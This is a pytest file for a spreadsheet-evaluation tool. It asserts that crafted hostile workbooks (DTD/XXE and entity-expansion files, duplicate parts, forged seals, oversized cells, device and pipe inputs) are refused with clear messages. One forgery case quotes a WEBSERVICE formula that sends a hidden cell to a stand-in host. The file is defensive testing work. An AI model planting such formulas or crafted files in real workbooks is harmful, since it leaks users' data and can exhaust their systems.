"""Attacks on reading and on the seal, as a hostile sender would make them.

Each crafted file comes from tests/attacks.py; each case asserts what the reviewer sees:
the exact reason a file is refused (by ``consolidate``, and by ``check`` with its exit
code), that the good form beside it is in the review once, and for forged forms the
finding that says so.
"""

from __future__ import annotations

import sys
from pathlib import Path

import openpyxl
import pytest
from attacks import (
    FAR_SHEET,
    LAUGHS,
    XXE,
    edit_meta,
    fake_values_copy,
    forge,
    graft_meta,
    twin_part,
    with_dtd,
)
from click.testing import CliRunner
from formcases import make_case

from perfeval_xl.cli import cli
from perfeval_xl.form import build_form
from perfeval_xl.seal import new_key, write_key

CLI = [sys.executable, "-m", "perfeval_xl"]
UNSAFE = " 含有不安全的 XML 内容（{where}），可能是“实体膨胀”之类的攻击文件，拒绝读取；请向报送单位索取在 Excel/WPS 中正常保存的文件"
TWINS = (" 中有两个同名的部件（{part}），不同的程序会读到不同的内容，可能是被构造的文件，拒绝读取；"
         "请向报送单位索取在 Excel/WPS 中正常保存的文件")


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), prog_name="perfeval-xl")
    return result.exit_code, result.stdout, result.stderr


def _rows(path: Path, sheet: str) -> list[dict[str, object]]:
    header, *rows = openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=False)) for row in rows]


@pytest.fixture(scope="module")
def forms(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Two filled forms of different projects: the one attacked, and one that stays good."""
    root = tmp_path_factory.mktemp("forms")
    paths = []
    for index in (0, 1):
        case = make_case(index)
        case.name = f"项目{index}"
        build_form(case.filled_spec(), root / f"{index}.xlsx")
        paths.append(root / f"{index}.xlsx")
    return paths[0], paths[1]


def _part(path: Path, part: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read(part)


def test_a_dtd_in_any_part_is_refused_by_every_command(forms: tuple[Path, Path], tmp_path: Path) -> None:
    """A DTD declared in a part that one reader never parses (document properties, styles, content
    types), referred to or not, hidden behind a long comment or in UTF-16: the same refusal from
    ``consolidate`` (python-calamine, which ignores DTDs) and ``check`` (openpyxl, which refuses some)."""
    attacked, other = forms
    root = tmp_path / "回收"
    root.mkdir()
    cases = {
        "属性.xlsx": (dict(part="docProps/core.xml"), "docProps/core.xml 中声明了 DTD 或实体"),
        "外部实体.xlsx": (dict(part="xl/styles.xml", dtd=XXE), "xl/styles.xml 中声明了 DTD 或实体"),
        "类型.xlsx": (dict(part="[Content_Types].xml", utf16=True), "[Content_Types].xml 中声明了 DTD 或实体"),
        "长注释.xlsx": (dict(part="xl/workbook.xml", padding=100_000),
                      "xl/workbook.xml 的 XML 开头异常，可能藏有 DTD 或实体"),
        "工作表.xlsx": (dict(part="xl/worksheets/sheet1.xml", dtd=LAUGHS), "xl/worksheets/sheet1.xml 中声明了 DTD 或实体"),
    }
    for name, (options, _) in cases.items():
        with_dtd(attacked, root / name, **options)  # type: ignore[arg-type]
    (root / "好表.xlsx").write_bytes(other.read_bytes())
    review = tmp_path / "汇总.xlsx"
    code, out, err = run("consolidate", str(root), "-o", str(review), "--jobs", "2")
    assert code == 1, out + err
    expected = {name: name + UNSAFE.format(where=where) for name, (_, where) in cases.items()}
    assert {str(r["文件"]): str(r["原因"]) for r in _rows(review, "未能读取")} == expected
    assert [r["文件"] for r in _rows(review, "汇总") if r["文件"]] == ["好表.xlsx"]
    for name in ("属性.xlsx", "类型.xlsx"):
        for command in ("check", "score"):
            assert run(command, str(root / name)) == (2, "", f"错误：{expected[name]}\n")


def test_two_parts_of_one_name_are_refused(forms: tuple[Path, Path], tmp_path: Path) -> None:
    """A second sheet part of the same name (before or after the first, or in other case): the checks
    and a reader could each take another one, so a far cell or other content would slip past the
    checks, and a form could show one thing in Excel and score another."""
    attacked, other = forms
    root = tmp_path / "回收"
    root.mkdir()
    part = "xl/worksheets/sheet1.xml"
    twin_part(attacked, root / "在前.xlsx", part, FAR_SHEET, first=True)
    twin_part(attacked, root / "在后.xlsx", part, _part(attacked, part))
    twin_part(attacked, root / "大写.xlsx", part, FAR_SHEET, spelling="xl/worksheets/Sheet1.xml")
    (root / "好表.xlsx").write_bytes(other.read_bytes())
    review = tmp_path / "汇总.xlsx"
    code, out, err = run("consolidate", str(root), "-o", str(review), "--jobs", "2")
    assert code == 1, out + err
    assert {str(r["文件"]): str(r["原因"]) for r in _rows(review, "未能读取")} == {
        "在前.xlsx": "在前.xlsx" + TWINS.format(part=part),
        "在后.xlsx": "在后.xlsx" + TWINS.format(part=part),
        "大写.xlsx": "大写.xlsx" + TWINS.format(part="xl/worksheets/Sheet1.xml"),
    }
    assert [r["文件"] for r in _rows(review, "汇总") if r["文件"]] == ["好表.xlsx"]
    assert run("check", str(root / "在前.xlsx")) == (2, "", f"错误：在前.xlsx{TWINS.format(part=part)}\n")


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A filled form sealed with the bureau's key, and the key file."""
    root = tmp_path_factory.mktemp("sealed")
    key = new_key()
    write_key(key, root / "财政局.key")
    case = make_case(2)
    case.name = "盖章项目"
    build_form(case.filled_spec(), root / "盖章.xlsx", key=key)
    return root / "盖章.xlsx", root / "财政局.key"


FORGERIES = {  # how -> (the finding both readers give, words of its message)
    "unhide": ("sheets-changed", "隐藏的工作表“计算”“_meta”被取消隐藏"),
    "second-sheet": ("sheets-changed", "多出工作表“自评表 (2)”"),
    "webservice": ("input-formula", '=WEBSERVICE("http://example.invalid/"&_meta!B18)'),
    "hidden-ref": ("input-formula", "=参数!B2"),
    "constants": ("form-altered", "公式被改成数值的单元格：H13"),
}


@pytest.mark.parametrize("how", sorted(FORGERIES))
def test_a_forgery_that_keeps_the_seal_is_still_flagged(how: str, sealed: tuple[Path, Path], tmp_path: Path) -> None:
    """Changes the seal does not cover (sheets, formulas, what fills an input cell) are flagged by both
    readers, with and without the key; the untouched form has none of these findings."""
    from perfeval_xl.reader import evaluate
    from perfeval_xl.reader.fast import evaluate_fast
    from perfeval_xl.seal import read_key

    form, key_file = sealed
    key = read_key(key_file)
    code, words = FORGERIES[how]
    forged = forge(form, tmp_path / f"{how}.xlsx", how)
    for read in (lambda p, k: evaluate(p, key=k), lambda p, k: evaluate_fast(p, key=k)[0]):
        for with_key in (key, None):
            [clean] = read(form, with_key)
            assert not [f for f in clean.all_findings() if f.code in ("sheets-changed", "input-formula",
                                                                      "form-altered", "seal-invalid")]
            [result] = read(forged, with_key)
            found = [f.message for f in result.all_findings() if f.code == code]
            assert len(found) == 1 and words in found[0], (how, [f.message for f in result.all_findings()])
    review = tmp_path / "汇总.xlsx"
    assert run("consolidate", str(forged), "-o", str(review), "--key", str(key_file))[0] == 0
    assert any(words in str(r["问题"]) for r in _rows(review, "问题清单"))


def test_a_record_grafted_from_another_form_is_named_as_such(tmp_path: Path) -> None:
    """The _meta of a genuine sealed form of 2019 copied into another project's form of 2018: the rules
    it names do not fit the form, and the reason given is the forgery, not advice to pick other rules."""
    from perfeval_xl.demo import load_example

    key = new_key()
    write_key(key, tmp_path / "财政局.key")
    build_form(load_example("caidian-2019-quality"), tmp_path / "供体.xlsx", key=key)
    build_form(load_example("donghu-2018-food-drug"), tmp_path / "受体.xlsx", key=key)
    grafted = graft_meta(tmp_path / "受体.xlsx", tmp_path / "供体.xlsx", tmp_path / "嫁接.xlsx")
    for extra in (["--key", str(tmp_path / "财政局.key")], []):
        code, _, err = run("check", str(grafted), *extra)
        assert code == 2 and err.startswith("错误：嫁接.xlsx：") and "--profile" not in err, err
        assert ("印章无效" if extra else "锁定的内容") in err
        assert err.endswith("无法计分：规则“mof-2020”没有适用于 2018 年度（2019-12-31 前生效）的取值）\n")


FULL_DISK = """
import errno, sys, zipfile
import xlsxwriter.workbook

class FullDisk(zipfile.ZipFile):  # every write fails as on a full disk, and so does the close the collector makes
    def write(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")
    writestr = write
    def close(self):
        raise OSError(errno.ENOSPC, "No space left on device")

import types
import perfeval_xl.form.sheet as sheet  # writes through its own zipfile.ZipFile at a fast level

xlsxwriter.workbook.ZipFile = FullDisk
sheet.zipfile = types.SimpleNamespace(**{**vars(zipfile), "ZipFile": FullDisk})
sys.argv = ["perfeval-xl", *sys.argv[1:]]
from perfeval_xl.cli import main
main()
"""


def test_a_full_disk_gives_one_message_and_no_traceback(tmp_path: Path) -> None:
    """A workbook cut short by a full disk: the message and exit 2, the previous file kept; the zip file the
    writer left open fails again when the collector closes it, and that goes to a log, not the terminal."""
    import subprocess

    from perfeval_xl.examples import __file__ as examples

    target = tmp_path / "表.xlsx"
    target.write_bytes(b"previous")
    spec = Path(examples).parent / "caidian-2019-quality.yaml"
    proc = subprocess.run([sys.executable, "-c", FULL_DISK, "new", str(spec), "-o", str(target), "--force"],
                          capture_output=True, text=True, timeout=120, check=False,
                          env={**__import__("os").environ, "PERFEVAL_XL_LOG_DIR": str(tmp_path / "logs")})
    assert (proc.returncode, proc.stderr) == (2, f"错误：无法写入 {target}：磁盘空间不足，请清理磁盘后重试\n")
    assert target.read_bytes() == b"previous"
    [log] = (tmp_path / "logs").glob("perfeval-xl-清理-*.log")
    assert "No space left on device" in log.read_text(encoding="utf-8")


def test_a_form_passed_off_as_a_values_copy_has_its_numbers_compared(sealed: tuple[Path, Path],
                                                                      tmp_path: Path) -> None:
    """_meta's mode set to values-only (the seal allows it: a copy keeps its form's seal) and the probe
    emptied, so that the fast reader would not compare the numbers shown: it compares them (the full
    reader sees the formulas that are left, so no copy, and names the replaced ones)."""
    from perfeval_xl.reader import evaluate
    from perfeval_xl.reader.fast import evaluate_fast

    form, _ = sealed
    fake = fake_values_copy(form, tmp_path / "假副本.xlsx")
    [fast], _ = evaluate_fast(fake)
    differs = [f for f in fast.all_findings() if f.code == "shown-differs"]
    assert differs and "表中显示的得分为 99" in differs[0].message
    [full] = evaluate(fake)
    assert [f for f in full.all_findings() if f.code == "form-altered" and "公式被改成数值的单元格：H13" in f.message]


@pytest.mark.parametrize(("entry", "value"), [("seal", "印章" * 32), ("seal_tags", "A1:印章印章 C3:ｆｆｆｆ")])
def test_a_seal_in_other_characters_is_invalid_not_an_internal_error(entry: str, value: str,
                                                                     sealed: tuple[Path, Path], tmp_path: Path) -> None:
    """The seal or its tags rewritten in Chinese characters (the comparison of the seal used to raise on
    text beyond ASCII: exit 3, an internal error): the seal is invalid, by both commands."""
    form, key_file = sealed
    forged = edit_meta(form, tmp_path / "改印章.xlsx", entry, value)
    code, out, err = run("check", str(forged), "--key", str(key_file))
    assert (code, err) == (1, ""), err
    assert "该表在下发后被改动，印章无效" in out
    review = tmp_path / "汇总.xlsx"
    assert run("consolidate", str(forged), "-o", str(review), "--key", str(key_file))[0] == 0
    assert [r["问题类型"] for r in _rows(review, "问题清单") if r["代码"] == "seal-invalid"] == ["印章无效"]


def test_a_deeply_nested_layout_in_an_evaluation_form_is_a_broken_record(tmp_path: Path) -> None:
    """The 评分表's _meta layout nested past Python's recursion limit: a clear error, not exit 3."""
    from perfeval_xl.examples import __file__ as examples

    spec = Path(examples).parent / "evaluation" / "nanchang-2020-work-funds.yaml"
    assert run("new", str(spec), "-o", str(tmp_path / "评分表.xlsx"))[0] == 0
    edit_meta(tmp_path / "评分表.xlsx", tmp_path / "嵌套.xlsx", "layout", "[" * 30_000 + "]" * 30_000)
    assert run("check", str(tmp_path / "嵌套.xlsx")) == (
        2, "", "错误：评分表的隐藏记录（_meta 工作表）已损坏，无法读取表的结构；请使用下发的原表重新填写\n")


def test_a_far_cell_behind_a_sheet_part_named_in_other_case_is_refused_before_reading(tmp_path: Path) -> None:
    """The relationship names the sheet "Worksheets/Sheet1.xml" (part names are case-insensitive, and
    python-calamine finds it): the far cell is refused by the checks, not by a worker dying at its limit."""
    from attacks import far_cell, retarget

    far_cell(tmp_path / "far.xlsx")
    root = tmp_path / "回收"
    root.mkdir()
    retarget(tmp_path / "far.xlsx", root / "大小写.xlsx", "Worksheets/Sheet1.xml")
    reason = ("大小写.xlsx 的工作表“Sheet1”中有远在表格之外的单元格 XFD1048576（表格范围达 1,048,576 行 × 16,384 列），"
              "读取需要过多内存，可能是被构造的文件，拒绝读取；如确是填好的自评表，请在 Excel/WPS 中删除多余的单元格后另存再试")
    review = tmp_path / "汇总.xlsx"
    assert run("consolidate", str(root), "-o", str(review), "--jobs", "1")[0] == 1
    assert {str(r["文件"]): str(r["原因"]) for r in _rows(review, "未能读取")} == {"大小写.xlsx": reason}
    assert run("check", str(root / "大小写.xlsx")) == (2, "", f"错误：{reason}\n")


def test_a_key_that_is_no_file_is_refused_at_once(forms: tuple[Path, Path], tmp_path: Path) -> None:
    """--key /dev/zero (reading it never ends) or a named pipe (reading it waits for a writer): refused
    before anything is read, exit 2."""
    import os
    import subprocess

    pipe = tmp_path / "密钥"
    os.mkfifo(pipe)
    for key in ("/dev/zero", str(pipe)):
        proc = subprocess.run([*CLI, "check", str(forms[0]), "--key", key], capture_output=True, text=True,
                              timeout=60, check=False)
        assert (proc.returncode, proc.stderr) == (
            2, f"错误：{key} 不是文件，不是 perfeval-xl 的密钥文件；请指定 perfeval-xl key new 生成的文件\n")


@pytest.mark.parametrize(("command", "name", "what"), [
    (["score", "{path}"], "项目.yaml", "一个项目文件（.yaml/.json）或自评表（.xlsx）"),
    (["new", "{path}", "-o", "{out}"], "项目.yaml", "一个项目文件（.yaml/.json）或自评表（.xlsx）"),
    (["check", "{path}"], "表.xlsx", "一个项目文件（.yaml/.json）或自评表（.xlsx）"),
    (["batch", "{path}", "-o", "{out}"], "清单.csv", "绩效目标清单文件（.xlsx 或 .csv）"),
    (["consolidate", "{form}", "-o", "{out}", "--expected", "{path}"], "生成清单.xlsx",
     "由 perfeval-xl batch 写出的 生成清单.xlsx"),
])
def test_an_input_that_is_a_device_or_a_pipe_is_refused_at_once(command: list[str], name: str, what: str,
                                                                 forms: tuple[Path, Path], tmp_path: Path) -> None:
    """A spec, list or form named on the command line that is /dev/zero (reading never ends) or a named
    pipe (reading waits for a writer): exit 2 with the reason, at once."""
    import os
    import subprocess

    device, pipe = tmp_path / f"设备{name}", tmp_path / f"管道{name}"
    os.symlink("/dev/zero", device)
    os.mkfifo(pipe)
    for path, kind in ((device, "字符设备文件"), (pipe, "命名管道（FIFO）")):
        places = {"{path}": str(path), "{form}": str(forms[0]), "{out}": str(tmp_path / "输出")}
        proc = subprocess.run([*CLI, *(places.get(a, a) for a in command)], capture_output=True,
                              text=True, timeout=60, check=False)
        assert (proc.returncode, proc.stderr) == (2, f"错误：{path} 是{kind}，不是普通文件，无法读取；请指定{what}\n")


SAVE = "请在 Excel/WPS 中打开后“另存为” Excel 工作簿（.xlsx）再报送"
LOOKALIKE_REASONS = {
    "网页.xls": "是网页（HTML）格式的表格（财务系统导出或“另存为网页”的 .xls 常是这样），不是真正的工作簿；" + SAVE,
    "导出.xls": "是文本文件（如 CSV，常见于财务系统导出），不是工作簿；" + SAVE,
    "单个网页.xls": "是“单个文件网页”（.mht）格式的表格，不是工作簿；" + SAVE,
    "表格2003.xls": "是“XML 表格 2003”格式的表格，不是工作簿；" + SAVE,
    "扫描件.xlsx": "是 PDF 文件，不是工作簿；请报送填好的自评表（Excel/WPS 工作簿），PDF 只能作附件",
    "~$自评表.xlsx": "是 Excel/WPS 打开工作簿时留下的临时锁定文件（名称以“~$”开头），不是工作簿；请报送同名但不带“~$”的文件",
}


def test_a_file_that_is_no_workbook_is_named_for_what_it_is(forms: tuple[Path, Path], tmp_path: Path) -> None:
    """An .xls that is a web page, a CSV or an XML 2003 table (what finance systems and WPS export), a PDF,
    Excel's lock file named on the command line: each says what it is and what to do, in the review (the lock
    file, found in a folder, is passed over) and from check."""
    from attacks import LOOKALIKES

    root = tmp_path / "回收"
    root.mkdir()
    for name, content in LOOKALIKES.items():
        (root / name).write_bytes(content)
    (root / "好表.xlsx").write_bytes(forms[1].read_bytes())
    review = tmp_path / "汇总.xlsx"
    assert run("consolidate", str(root), "-o", str(review))[0] == 1
    assert {str(r["文件"]): str(r["原因"]) for r in _rows(review, "未能读取")} == {
        name: f"{name} {reason}" for name, reason in LOOKALIKE_REASONS.items() if not name.startswith("~$")}
    for name, reason in LOOKALIKE_REASONS.items():
        assert run("check", str(root / name)) == (2, "", f"错误：{name} {reason}\n")


def test_two_sheets_of_one_name_are_refused(sealed: tuple[Path, Path], tmp_path: Path) -> None:
    """A forged 自评表 listed beside the genuine one under the same name: python-calamine read the first and
    openpyxl renamed the second, so the forged copy went unseen by consolidate when it came second."""
    from attacks import twin_sheet

    form, key_file = sealed
    root = tmp_path / "回收"
    root.mkdir()
    for first in (True, False):
        twin_sheet(form, root / f"{'在前' if first else '在后'}.xlsx", first=first)
    review = tmp_path / "汇总.xlsx"
    assert run("consolidate", str(root), "-o", str(review), "--key", str(key_file))[0] == 1
    reason = ("{name} 中有两个名为“自评表”的工作表，不同的程序会读到不同的一个，可能是被构造的文件，拒绝读取；"
              "请向报送单位索取在 Excel/WPS 中正常保存的文件")
    assert {str(r["文件"]): str(r["原因"]) for r in _rows(review, "未能读取")} == {
        name: reason.format(name=name) for name in ("在前.xlsx", "在后.xlsx")}
    assert run("check", str(root / "在后.xlsx")) == (2, "", f"错误：{reason.format(name='在后.xlsx')}\n")
